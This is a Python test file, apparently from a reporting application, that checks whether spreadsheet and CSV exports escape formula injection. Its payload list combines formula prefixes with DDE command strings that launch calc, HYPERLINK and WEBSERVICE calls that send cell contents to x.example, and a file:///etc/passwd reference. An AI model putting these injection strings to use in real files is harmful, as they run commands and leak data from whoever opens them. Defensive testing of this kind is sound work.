"""Text goes out as text: nothing in any export runs when it is opened."""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile
from datetime import date
from itertools import cycle, product
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pandas as pd
import pytest
import xlsxwriter
from openpyxl import load_workbook

from impact.export import figures_download, table_files
from impact.export.frames import build_frame
from impact.ingest.annotate import annotate_workbook
from impact.ingest.template.writer import PrefilledValue, TemplateIndicator, write_template
from impact.model.issues import Issue, IssueKind, Severity
from impact.model.screen_entry import EnteredIndicator, EnteredValue, ScreenEntry
from impact.model.submission import ValueKind
from impact.model.vocabulary.languages import Language
from impact.model.vocabulary.measures import Measure
from impact.model.vocabulary.theory_levels import Level
from impact.services.entry import entry_file
from impact.views.figures.figure_columns import DAY, FIGURES, FLAG, NUMBER, TEXT, WHOLE, Records
from impact.views.figures.figure_list import FIGURE_LIST_COLUMNS, FigureList
from impact.views.figures.spreadsheet_text import escape_formulas
from tests.ingest.packed import NO_OFFICE, OFFICE, parts, saved_by_office

STARTS = (
    "=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "\u00a0=", "\u200b=", "\ufeff=", "＝", "＋", "－", "＠", "﹦",
    "'=", '"=', "|=", ";=", "a;=", "a; +", ",=", "a, =", "a\t=", "a\n@", 'a";=', "=-+", "{=", "%=",
)  # fmt: skip
BODIES = (
    "1+1", "cmd|' /C calc'!A0", "HYPERLINK(\"http://x.example/?\"&A1,\"klik\")", "DDE(\"cmd\";\"/C calc\";\"x\")",
    "WEBSERVICE(\"http://x.example/\"&A1)", "SUM(1)*cmd|'/C calc'!A0", "IMPORTXML(\"http://x.example\";\"//a\")",
    "'file:///etc/passwd'#$x.A1",
)  # fmt: skip
PAYLOADS = tuple(start + body for start, body in product(STARTS, BODIES))
SIGN = re.compile("[\\s\u200b\u2060\ufeff]*[=+\\-@＝＋－＠﹦﹢﹣﹫]")
PERIOD = (date(2025, 1, 1), date(2025, 12, 31))


def runs_in(data: bytes) -> list[str]:
    """Whatever in a workbook would run, reach out or be worked out when it is opened."""
    found = []
    for name, content in parts(data).items():
        if re.search(rb"<(?:\w+:)?f[\s>/]", content) and "worksheets/" in name:
            found.append(f"{name}: a formula")
        if re.search(r"externalLink|connections|vbaProject|activeX|oleObject", name):
            found.append(name)
        if b"<ddeLink" in content or (b"<definedName " in content and b"_xlnm." not in content):
            found.append(f"{name}: a name")
        if name.endswith(".rels") and b'TargetMode="External"' in content:
            found.append(f"{name}: leads out")
    for sheet in load_workbook(io.BytesIO(data)).worksheets:
        found += [f"{sheet.title}!{c.coordinate}" for row in sheet.iter_rows() for c in row if c.data_type == "f"]
    return found


def issues() -> tuple[Issue, ...]:
    return tuple(
        Issue(IssueKind.TEXT_FOR_NUMBER, Severity.QUESTION, "Cijfers", row, 2, payload)
        for row, payload in enumerate(PAYLOADS, start=2)
    )


def marked_workbook() -> bytes:
    stream = io.BytesIO()
    with xlsxwriter.Workbook(stream, {"in_memory": True, "strings_to_formulas": False}) as book:
        sheet = book.add_worksheet("Cijfers")
        for row, payload in enumerate(("Waarde", *PAYLOADS)):
            sheet.write_string(row, 1, payload)
    made = annotate_workbook(stream.getvalue(), "m.xlsx", issues(), Language.NL)
    assert made.kind == "marked"
    return made.data


def listed_workbook() -> bytes:
    made = annotate_workbook(b"no workbook", PAYLOADS[2] + ".ods", issues(), Language.FR)
    assert made.kind == "list"
    return made.data


def a_template() -> bytes:
    made = [
        TemplateIndicator(
            payload, payload, payload[:40], Measure.NUMBER, Level.OUTPUT, breakdowns=(payload,),
            values={(PERIOD, ""): PrefilledValue(payload, note=payload)},
        )
        for payload in PAYLOADS
    ]  # fmt: skip
    return write_template(Language.EN, PAYLOADS[0], made, (PERIOD,))


def a_list() -> FigureList:
    rows = tuple((payload, *([None] * (len(FIGURE_LIST_COLUMNS) - 2)), payload) for payload in PAYLOADS)
    return FigureList(FIGURE_LIST_COLUMNS, rows)


def a_frame(words: tuple[str, ...] = ("a",)) -> pd.DataFrame:
    """A figure per word, with that word in every text and open category, and every other row half empty."""
    kinds: dict[str, Any] = {NUMBER: -1234.5, WHOLE: 7, FLAG: False, DAY: date(2025, 12, 31)}
    rows = []
    for word, full in zip(words, cycle((True, False)), strict=False):
        rows.append(tuple(
            word if column.dtype == TEXT and column.name != "notes" else
            (column.words[0] if column.words else word) if column.name in ("level", "status", "state", "grantee")
            else kinds.get(column.dtype) if full else None
            for column in FIGURES
        ))  # fmt: skip
    return build_frame(Records(FIGURES, tuple(rows)))


MADE = {
    "marked": marked_workbook,
    "list": listed_workbook,
    "template": a_template,
    "figures": lambda: table_files.write_figures(a_list(), "xlsx"),
    "all figures": lambda: figures_download.write_all_figures(a_frame(PAYLOADS), "xlsx", Language.NL),
}


def lists_and_validations_only(name: str, found: list[str]) -> list[str]:
    """A template's own drop-downs are named ranges of ours; all else must not be there."""
    return [item for item in found if not (name == "template" and item.endswith(": a name"))]


@pytest.mark.parametrize("name", list(MADE))
def test_no_export_holds_a_live_formula(name: str) -> None:
    assert len(PAYLOADS) >= 200
    data = MADE[name]()
    assert lists_and_validations_only(name, runs_in(data)) == []
    texts = {
        cell.value for sheet in load_workbook(io.BytesIO(data)).worksheets for row in sheet.iter_rows() for cell in row
    }
    # The texts are there, and nothing was left out to be safe.
    kept = {re.sub(r"\s", "", str(value)) for value in texts if value}
    assert sum(re.sub(r"\s", "", payload) in kept for payload in PAYLOADS) == len(PAYLOADS)


def an_entry() -> bytes:
    """What somebody typed on screen, as it is kept and fetched like a file."""
    day = date(2025, 12, 31)
    values = tuple(EnteredValue("1", ValueKind.ACTUAL, day, day, note=payload) for payload in PAYLOADS)
    indicators = tuple(EnteredIndicator(str(number), title=payload) for number, payload in enumerate(PAYLOADS))
    known: Any = SimpleNamespace(indicators={})
    return entry_file.write_entry(ScreenEntry("5d1f", values, indicators), known, Language.NL)


TEXT_TABLES = {
    "figures": lambda: table_files.write_figures(a_list(), "csv"),
    "figures as Dutch spreadsheets open them": lambda: table_files.as_local_csv(a_list(), Language.NL),
    "figures as English spreadsheets open them": lambda: table_files.as_local_csv(a_list(), Language.EN),
    "an entry on screen": an_entry,
}


@pytest.mark.parametrize("name", list(TEXT_TABLES))
@pytest.mark.parametrize("delimiter", [",", ";", "\t", "|"])
def test_no_text_table_holds_a_cell_that_would_run_however_it_is_parted(delimiter: str, name: str) -> None:
    words = TEXT_TABLES[name]().decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(words), delimiter=delimiter) for cell in row]
    assert len(cells) > len(PAYLOADS)
    assert [cell for cell in cells if SIGN.match(cell)] == []


@pytest.mark.skipif(OFFICE is None, reason=NO_OFFICE)
def test_libreoffice_finds_no_formula_in_the_text_table(tmp_path: Path) -> None:
    saved = saved_by_office(table_files.write_figures(a_list(), "csv"), tmp_path, "xlsx", source="in.csv")
    assert runs_in(saved) == []


def test_the_measure_finds_a_formula_where_there_is_one() -> None:
    stream = io.BytesIO()
    with xlsxwriter.Workbook(stream) as book:
        book.add_worksheet().write_formula("A1", "=1+1")
        book.get_worksheet_by_name("Sheet1").write_url("A2", "https://example.org")
    assert len(runs_in(stream.getvalue())) == 3
    assert SIGN.match("\ufeff =1")


@pytest.mark.parametrize(("text", "written"), [
    ("-4,423", "-4,423"), ("-", "-"), ("+12 %", "+12 %"), ("-5;-6", "'-5;'-6"), ("a; b - c", "a; b - c"),
    ("meisjes; jongens", "meisjes; jongens"), ("=1", "'=1"), ("x;=1", "x;'=1"), ("＝1", "'＝1"),
])  # fmt: skip
def test_only_what_would_run_gets_an_apostrophe(text: str, written: str) -> None:
    assert escape_formulas(text) == written


def test_broken_text_breaks_no_export() -> None:
    words = "\ud800 \x00\x01 ]]> _x000D_ \ufffe"
    rows = ((words, *([None] * (len(FIGURE_LIST_COLUMNS) - 1))),)
    found = FigureList(FIGURE_LIST_COLUMNS, rows)
    assert json.loads(table_files.write_figures(found, "json"))[0]["portfolio"].startswith("\ufffd ")
    assert table_files.write_figures(found, "csv").decode("utf-8").count("]]>") == 1
    with zipfile.ZipFile(io.BytesIO(table_files.write_figures(found, "xlsx"))) as archive:
        assert archive.testzip() is None
    assert load_workbook(io.BytesIO(table_files.write_figures(found, "xlsx"))).active["A2"].value
